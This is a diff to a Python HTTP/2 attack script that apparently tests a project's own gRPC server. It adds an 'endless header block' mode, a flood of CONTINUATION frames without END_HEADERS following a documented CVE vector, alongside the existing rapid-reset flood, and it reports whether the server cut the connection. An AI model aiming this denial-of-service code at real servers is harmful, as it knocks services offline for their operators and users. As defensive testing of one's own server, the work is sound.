@@ -3,9 +3,12 @@
 it reaches an exposed front: on each of C connections, up to N x (HEADERS, DATA, RST_STREAM) written as fast
 as the socket takes them, until the server sends GOAWAY or closes the connection. Frames are made with
 python3-h2's hpack and hyperframe; the request is the one server/tools/h2_probe.py sends.
+With --continuation-mb M, the endless header block instead (CVE-2023-33953's third vector): HEADERS without
+END_HEADERS, then CONTINUATION frames of 16 KB literal fields, up to M MiB per connection or until the
+server ends the connection.
 
     h2_rapid_reset_tls.py --port P --ca CA --cert CRT --key KEY [--source ADDR] [--streams N]
-                          [--connections C] [--token T]
+                          [--connections C] [--token T] [--continuation-mb M]
 
 Prints one JSON object: per connection the streams written, whether the server sent GOAWAY (its error
 code and last stream id) or closed, and the grpc-status and HTTP :status values seen. Timing is reported,
@@ -21,7 +24,8 @@ import sys
 import time
 
 import hpack
-from hyperframe.frame import DataFrame, Frame, GoAwayFrame, HeadersFrame, RstStreamFrame, SettingsFrame
+from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, RstStreamFrame,
+                              SettingsFrame)
 
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "server", "tools"))
 from h2_probe import grpc_frame, id_request  # noqa: E402
@@ -152,6 +156,58 @@ def attack(a, body):
             "http_status": c.http, "resets_by_server": c.resets, "seconds": round(seconds, 3)}
 
 
+def hpack_int(value, prefix_bits, first_byte):
+    """An HPACK integer with its prefix in the low prefix_bits of first_byte (RFC 7541, 5.1)."""
+    limit = (1 << prefix_bits) - 1
+    if value < limit:
+        return bytes([first_byte | value])
+    out = [first_byte | limit]
+    value -= limit
+    while value >= 128:
+        out.append(value % 128 + 128)
+        value //= 128
+    out.append(value)
+    return bytes(out)
+
+
+def literal(name, value):
+    """A literal header field without indexing, new name, no Huffman coding (RFC 7541, 6.2.2)."""
+    return hpack_int(0, 4, 0x00) + hpack_int(len(name), 7, 0) + name + hpack_int(len(value), 7, 0) + value
+
+
+def endless_header_block(a):
+    c = TlsConnection(a)
+    t0 = time.monotonic()
+    h = HeadersFrame(1)
+    h.data = c.encoder.encode([(":method", "POST"), (":scheme", "https"),
+                               (":path", "/denoc.v1.Dynamics/GetModel"), (":authority", "localhost:%d" % a.port),
+                               ("content-type", "application/grpc"), ("te", "trailers")])
+    sent = len(h.data)
+    c.write(h.serialize())
+    limit = a.continuation_mb << 20
+    k = 0
+    while sent < limit and not c.closed and not c.goaway:
+        f = ContinuationFrame(1)
+        f.data = literal(b"x-pad-%d" % k, b"v" * 16000)
+        k += 1
+        if not c.write(f.serialize()):
+            c.pump(0.5)  # the server reads nothing more: wait for its verdict
+            if not c.closed and not c.goaway:
+                break
+            continue
+        sent += len(f.data)
+        if k % 16 == 0:
+            c.pump(0)
+    seconds = time.monotonic() - t0
+    c.pump(2.0)
+    try:
+        c.sock.close()
+    except OSError:
+        pass
+    return {"header_bytes_sent": sent, "goaway": c.goaway, "closed": c.closed, "http_status": c.http,
+            "grpc_status": c.statuses, "seconds": round(seconds, 3)}
+
+
 def main():
     p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     p.add_argument("--port", type=int, required=True)
@@ -164,7 +220,20 @@ def main():
     p.add_argument("--token", default=None)
     p.add_argument("--model", default="0" * 64)
     p.add_argument("--dof", type=int, default=7)
+    p.add_argument("--continuation-mb", type=int, default=0,
+                   help="send one endless header block of up to this many MiB per connection instead")
     a = p.parse_args()
+    if a.continuation_mb:
+        runs = []
+        for _ in range(a.connections):
+            try:
+                runs.append(endless_header_block(a))
+            except (OSError, ssl.SSLError) as e:
+                runs.append({"error": str(e)})
+        print(json.dumps({"connections": runs,
+                          "header_bytes_sent": sum(r.get("header_bytes_sent", 0) for r in runs),
+                          "cut_off": sum(1 for r in runs if r.get("goaway") or r.get("closed") or "error" in r)}))
+        return
     body = grpc_frame(id_request(a.model, a.dof, 1))
     runs = []
     for _ in range(a.connections):
